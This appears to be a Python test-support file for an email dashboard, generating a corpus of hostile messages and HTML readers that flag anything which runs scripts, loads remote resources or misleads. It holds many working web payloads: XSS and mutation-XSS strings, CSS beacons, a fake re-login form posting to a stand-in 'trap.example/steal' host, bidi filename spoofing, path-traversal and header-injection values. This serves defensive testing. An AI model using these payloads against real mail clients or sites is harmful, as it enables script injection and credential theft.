"""Mail that attacks the page that shows it, in every field that is shown, and readers that find in a page or mail frame
whatever would run, load or mislead. Nothing may ever send a request to the host `TRAP`.
"""

from __future__ import annotations

import base64
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from typing import TypeVar
from urllib.parse import urlsplit

from postroom.archive.messages import IncomingMail, Provenance
from tests.support.mail import ME

TRAP = "trap.example"
RAN = "window.top.postMessage('ran','*');document.title='ran';alert(1)"
"""What every script of the corpus tries."""

_BEGINNING = datetime(2026, 1, 1, tzinfo=UTC)


@dataclass(frozen=True)
class Attack:
    name: str
    raw: bytes


_WRITTEN = {
    "script": "<p>Hello</p><script>RUN</script><script src='TRAP/a.js'></script>",
    "script-split": "<scr<script>ipt>RUN</scr</script>ipt><SCRIPT/x>RUN</SCRIPT\n>",
    "handlers": '<p onclick="RUN" onmouseover=RUN>x</p><body onload="RUN"><div onpointerrawupdate="RUN">y</div>',
    "image-handlers": '<img src=x onerror="RUN"><img src="TRAP/pixel.gif" width=1 height=1><image href="TRAP/i">',
    "image-sets": (
        '<img srcset="TRAP/1 1x"><picture><source srcset="TRAP/2"></picture><input type=image src="TRAP/3">'
    ),
    "svg": '<svg onload="RUN"><script>RUN</script><image href="TRAP/s"/><use href="TRAP/u#x"/></svg>',
    "svg-animate": (
        '<svg><a><animate attributeName=href values="javascript:RUN"/><text>x</text></a>'
        '<set attributeName=onload to="RUN"/></svg>'
    ),
    "mathml": '<math href="javascript:RUN">x<mtext><style><img src=x onerror="RUN"></style></mtext></math>',
    "mutation": ('<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">'),
    "mutation-2": (
        '<svg></p><style><a id="</style><img src=1 onerror=RUN>"></svg><noscript><p title="</noscript>'
        '<img src=x onerror=RUN>">'
    ),
    "mutation-3": '<form><math><mtext></form><form><mglyph><style></math><img src onerror="RUN">',
    "comments": (
        '<!--><img src=x onerror="RUN">--><!-- --!><img src=x onerror="RUN"><!--[if gte IE 4]>'
        "<script>RUN</script><![endif]-->"
    ),
    "links": (
        '<a href="javascript:RUN">a</a><a href=" &#1;java&#10;script&colon;RUN">b</a>'
        '<a href="data:text/html,<script>RUN</script>">c</a><a href="vbscript:x">d</a>'
        '<a href="//BARE/x">e</a><a href="/logout">f</a><a href="file:///etc/passwd">g</a>'
        '<a href="blob:x">h</a>'
    ),
    "posing-links": (
        '<a href="STRAP/login">https://bank.example/login</a> <a href="https://bank.example@BARE/">bank.example</a>'
    ),
    "link-ping": '<a href="https://bank.example" ping="TRAP/ping" target="_top" rel="opener">x</a>',
    "styles": (
        "<style>@import 'TRAP/i.css';body{background:url(TRAP/b)}</style>"
        "<link rel=stylesheet href='TRAP/l.css'><p style=\"background:url('TRAP/p')\">x</p>"
        "<p style='background-image:\\75\\72\\6c(TRAP/q)'>y</p>"
    ),
    "style-attributes": (
        '<div style="list-style:url(TRAP/1);content:url(TRAP/2);cursor:url(TRAP/3),auto;border-image:url'
        '(TRAP/4)">x</div><table background="TRAP/5">'
        '<td style="width:expression(RUN);behavior:url(TRAP/6);-moz-binding:url(TRAP/7)">y</td></table>'
    ),
    "overlay": (
        '<div style="position:fixed;inset:0;z-index:99999;background:#fff"><h1>Log in again</h1>'
        '<form action="TRAP/steal" method=post><input name=passphrase type=password autofocus>'
        '<button formaction="TRAP/b">Go</button></form></div>'
    ),
    "nested-forms": (
        "<form action=TRAP><form><input><select><option>a</select><textarea></form>RUN<isindex action=TRAP>"
    ),
    "frames": (
        '<iframe src="TRAP/f"></iframe><iframe srcdoc="<script>RUN</script>"></iframe><frameset>'
        '<frame src="TRAP/g"></frameset><object data="TRAP/o"></object><embed src="TRAP/e">'
        '<applet code="TRAP/a"></applet><portal src="TRAP/p">'
    ),
    "meta": (
        '<meta http-equiv=refresh content="0;url=TRAP/r"><meta http-equiv="Set-Cookie" content="a=b">'
        '<base href="TRAP/"><a href="relative">x</a><meta charset=utf-7>'
    ),
    "prefetch": (
        '<link rel=prefetch href="TRAP/1"><link rel=preconnect href="TRAP/">'
        '<link rel=dns-prefetch href="//BARE"><link rel=manifest href="TRAP/m">'
    ),
    "media": (
        '<video src="TRAP/v" poster="TRAP/w" autoplay></video><audio src="TRAP/a" autoplay></audio>'
        '<track src="TRAP/t"><bgsound src="TRAP/b">'
    ),
    "break-out": (
        "</div></body></html>\"'><script>RUN</script></iframe></textarea></title></style><plaintext>"
        "<script>RUN</script>"
    ),
    "clobbering": (
        "<form id=document><input name=cookie></form><img name=getElementById>"
        "<a id=postroom name=csrf href=cid:x>x</a><input name=csrf>"
    ),
    "template": (
        '<template><script>RUN</script></template><details open ontoggle="RUN"><summary>x</summary>'
        '</details><marquee onstart="RUN">m</marquee>'
    ),
    "bidi": "<p>invoice_&#x202e;fdp.exe &#8238;gpj</p><bdo dir=rtl>moc.knab</bdo><p>\u202eevil\u2066</p>",
    "deep": "<div><b><table><td>" * 20_000,
    "deep-forms": "<form><p><a><i>" * 10_000 + "</p>" * 10_000,
    "many-attributes": "<p " + " ".join(f"a{n}=1" for n in range(30_000)) + ">x",
    "unclosed": '<a href="' * 30_000,
    "long-word": "<p>" + "W" * 200_000 + "</p>",
    "wide": '<table width=100000><td style="width:99999px;white-space:nowrap">x</table><pre>' + "y" * 5_000 + "</pre>",
    "data-images": (
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>\"><img src=\"cid:part1\">"
    ),
    "nul": "<scr\x00ipt>RUN</scr\x00ipt><img src=x one\x00rror=RUN>\x00",
}
"""RUN is a script, TRAP and STRAP are addresses of the trap, BARE is its name."""


def _written(text: str) -> str:
    for word, meaning in (("RUN", RAN), ("STRAP", f"https://{TRAP}"), ("TRAP", f"http://{TRAP}"), ("BARE", TRAP)):
        text = text.replace(word, meaning)
    return text


HTML_BODIES = {name: _written(body) for name, body in _WRITTEN.items()}


def attacks() -> Iterator[Attack]:
    for name, body in HTML_BODIES.items():
        yield Attack(f"html-{name}", _mail(subject=f"About {name}", html=body))
    yield from _in_headers()
    yield from _in_text()
    yield from _in_attachments()
    yield from _broken()


def corpus() -> list[IncomingMail]:
    """The attacks as mail of one mailbox, newest last; the key of each is the name of its attack."""
    return [
        IncomingMail(
            attack.raw, Provenance.API, attack.name, f"t-{attack.name}", _LABELS, _BEGINNING + timedelta(hours=n)
        )
        for n, attack in enumerate(attacks())
    ]


_LABELS = frozenset({"INBOX", "UNREAD", f"<script>{RAN}</script>", "\u202elabel", "L" * 300, '"onmouseover=alert(1)'})


def _mail(subject: str = "Hello", html: str | None = None, text: str = "", head: str = "") -> bytes:
    date = "Thu, 01 Jan 2026 12:00:00 +0000"
    top = f"From: Ann <ann@example.org>\r\nTo: {ME}\r\nSubject: {subject}\r\nDate: {date}\r\n{head}"
    kind = "text/plain" if html is None else "text/html"
    content = base64.encodebytes((text if html is None else html).encode())
    lines = f"MIME-Version: 1.0\r\nContent-Type: {kind}; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    return (top + lines).encode() + content


def _word(text: str) -> str:
    return f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="


def _in_headers() -> Iterator[Attack]:
    script = f"<script>{RAN}</script>"
    yield Attack("subject-script", _mail(subject=script))
    yield Attack("subject-breaks-out", _mail(subject=f'"></title></a></script><img src=http://{TRAP}/s onerror={RAN}>'))
    yield Attack("subject-template", _mail(subject="{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>"))
    yield Attack("subject-bidi", _mail(subject=_word("Invoice \u202egpj.exe \u2066\u200b\u200b\u200f\u061c")))
    yield Attack("subject-long", _mail(subject="W" * 50_000))
    yield Attack("subject-nul", _mail(subject=_word("a\0b\x1b[31mc\r\nBcc: x@y.example")))
    yield Attack("subject-combining", _mail(subject=_word("Z" + "\u0334\u0321\u0348" * 2_000)))
    yield Attack("no-headers", b"\r\njust text")
    yield Attack("empty", b"")
    froms = {
        "name": f'From: "{script}" <ann@example.org>',
        "posing": 'From: "service@bank.example" <evil@trap.example>',
        "address": 'From: "><img/src/onerror=alert(1)>"@example.org',
        "bidi": f"From: {_word(chr(0x202E) + 'ynnA')} <ann@example.org>",
    }
    for name, line in froms.items():
        yield Attack(f"from-{name}", f"{line}\r\nSubject: x\r\n\r\nHello".encode())
    crowd = ",\r\n ".join(f'"<b>{n}</b>" <p{n}@example.org>' for n in range(10_000))
    yield Attack("crowd", _mail(head=f"Cc: {crowd}\r\nReply-To: {script}@example.org\r\n"))
    yield Attack("headers", _mail(head="".join(f"X-{n}: {script}\r\n" for n in range(3_000))))
    yield Attack(
        "header-date", _mail(head=f"Message-ID: <{script}@x>\r\nReferences: <{script}@x>\r\nList-ID: {script}\r\n")
    )


def _in_text() -> Iterator[Attack]:
    yield Attack("text-markup", _mail(text=f"<script>{RAN}</script><img src=http://{TRAP}/t>\r\n</div></body>"))
    yield Attack(
        "text-links",
        _mail(
            text=_written(
                "javascript:RUN data:text/html,x https://bank.example@BARE/ "
                "https://\u0430\u0440\u0440\u04cf\u0435.example/ "
                'https://x.example/"onmouseover="RUN https://x.example/<script> http://[bad '
                "http://x.example:99999999/ mailto:a@x.example?body=<b>"
            )
        ),
    )
    yield Attack("text-bidi", _mail(text="\u202ekrow ton seod siht\u2066\u2069 zero\u200bwidth\ufeff \x1b[2J\0 end"))
    yield Attack("text-long-word", _mail(text="W" * 300_000))
    yield Attack("text-many-links", _mail(text="https://x.example/ " * 20_000))


def _in_attachments() -> Iterator[Attack]:
    page = base64.b64encode(f"<script>{RAN}</script>".encode()).decode()
    names = {
        "html": ("text/html", 'filename="page.html"'),
        "svg": ("image/svg+xml", 'filename="picture.svg"'),
        "xhtml": ("application/xhtml+xml", 'filename="page.xhtml"'),
        "pdf": ("application/pdf", 'filename="a.pdf"'),
        "path": ("text/plain", 'filename="../../../../etc/passwd"'),
        "quotes": ("text/plain", r'filename="a\";b=c\r\nX-Evil: 1.txt"'),
        "bidi": ("application/octet-stream", "filename*=utf-8''invoice%E2%80%AEfdp.exe"),
        "script": ("text/plain", f'filename="<script>{RAN}</script>.txt"'),
        "long": ("text/plain", f'filename="{"n" * 5_000}.html"'),
        "type": (f'text/"><script>{RAN}</script>', 'filename="x"'),
        "none": ("application/x-unknown", ""),
    }
    for name, (kind, disposition) in names.items():
        top = f"From: ann@example.org\r\nTo: {ME}\r\nSubject: attached {name}\r\n"
        head = f"--b\r\nContent-Type: {kind}\r\nContent-Disposition: attachment; {disposition}\r\n"
        part = f"{head}Content-Transfer-Encoding: base64\r\n\r\n{page}\r\n--b--\r\n"
        content = f"{top}Content-Type: multipart/mixed; boundary=b\r\n\r\n{part}"
        yield Attack(f"attached-{name}", content.encode())


def _broken() -> Iterator[Attack]:
    head = b"From: ann@example.org\r\nSubject: broken\r\n"
    yield Attack("charset-unknown", head + b"Content-Type: text/html; charset=no-such\r\n\r\n<p>\xff\xfe\x80</p>")
    yield Attack(
        "charset-utf7",
        head + b"Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-alert(1)+ADw-/script+AD4- +2AA-",
    )
    yield Attack(
        "charset-utf16",
        head
        + b"Content-Type: text/html; charset=utf-16\r\n\r\n"
        + "<script>alert(1)</script>\ud800".encode("utf-16", "surrogatepass"),
    )
    yield Attack(
        "subject-bytes",
        b"From: \xff\xfe@\x80\r\nSubject: =?utf-16?b?2AA=?= \xed\xa0\x80 =?utf-7?q?+2AA-?=\r\n\r\n\xed\xa0\x80",
    )
    yield Attack(
        "nested-parts",
        b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(500)),
    )


DIRECTION = re.compile(r"[\x00\u200e\u200f\u202a-\u202e\u2066-\u2069]")
_LOCAL = ("/", "?", "#")
_OPENS = ("http", "https", "mailto")
_OURS = frozenset(f"/static/{name}.js" for name in ("live", "keys", "completion", "client-file", "upload"))
_ICON = {"viewbox": "0 0 24 24", "aria-hidden": "true"}
"""Of the bar at the bottom of a phone. What stands in it is looked at like everything else."""
_RUNS_OR_LOADS = frozenset(
    {"script", "style", "svg", "math", "object", "embed", "base", "applet", "video", "audio", "source", "img", "image"}
    | {"iframe", "frame", "link", "meta", "form", "input", "button", "textarea", "select", "template", "noscript"}
)


R = TypeVar("R", bound="_Reader")


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.harms: list[str] = []
        self.frames: list[dict[str, str]] = []
        self.in_body = False
        self.depth = self.deepest = 0

    def say(self, what: str) -> None:
        self.harms.append(what[:300])

    def attributes(self, tag: str, given: list[tuple[str, str | None]]) -> dict[str, str]:
        for name, _ in given:
            if name.startswith("on"):
                self.say(f"<{tag} {name}>")
        return {name: value or "" for name, value in given}

    def link(self, tag: str, found: dict[str, str]) -> None:
        """Where it leads: within the dashboard, or elsewhere in a window that knows nothing of this one."""
        href = found.get("href")
        if href is None or (href.startswith(_LOCAL) and not href.startswith("//")):
            return
        if urlsplit(href).scheme not in _OPENS:
            self.say(f"<{tag} href={href!r}>")
        elif (found.get("rel"), found.get("target")) != ("noopener noreferrer", "_blank"):
            self.say(f"<{tag} href={href!r}> opens with {found}")


class PageReader(_Reader):
    """A page of the dashboard: our own tags may stand in it, with our own addresses only."""

    def handle_starttag(self, tag: str, given: list[tuple[str, str | None]]) -> None:
        found = self.attributes(tag, given)
        if (tag, found) == ("svg", _ICON):
            return
        if tag in ("style", "svg", "math", "object", "embed", "base", "template") or "style" in found:
            self.say(f"<{tag} {found}>")
        if tag == "script" and urlsplit(found.get("src", "")).path not in _OURS:
            self.say(f"<script {found}>")
        for name in ("src", "action", "srcset", "formaction", "poster", "background", "data"):
            if name in found and (not found[name].startswith("/") or found[name].startswith("//")):
                self.say(f"<{tag} {name}={found[name]!r}>")
        if tag == "iframe":
            self.frames.append(found)
        if tag == "a":
            self.link(tag, found)


class FrameReader(_Reader):
    """The document with a message: nothing in its body but words, tables and links."""

    def handle_starttag(self, tag: str, given: list[tuple[str, str | None]]) -> None:
        found = self.attributes(tag, given)
        if tag == "body":
            self.in_body = True
        elif self.in_body:
            self.depth += tag not in ("br", "hr", "col")
            self.deepest = max(self.deepest, self.depth)
            self._check(tag, found)

    def handle_endtag(self, tag: str) -> None:
        self.depth -= 1

    def _check(self, tag: str, found: dict[str, str]) -> None:
        if tag in _RUNS_OR_LOADS:
            self.say(f"<{tag} {found}>")
        if found.keys() & {"src", "id", "name", "class", "background", "srcset", "action", "ping"}:
            self.say(f"<{tag} {found}>")
        if re.search(r"url|expression|position|image|import|\\", found.get("style", ""), re.IGNORECASE):
            self.say(f"<{tag} style={found['style']!r}>")
        if tag == "a":
            if found.get("href", "").startswith(_LOCAL):
                self.say(f"a link into the dashboard: {found}")
            self.link(tag, found)


def read_page(html: str) -> PageReader:
    return _read(PageReader(), html)


def read_frame(html: str) -> FrameReader:
    return _read(FrameReader(), html)


def _read(reader: R, html: str) -> R:
    reader.feed(html)
    reader.close()
    if DIRECTION.search(html):
        reader.say("a mark that turns the direction of writing, or a NUL")
    return reader
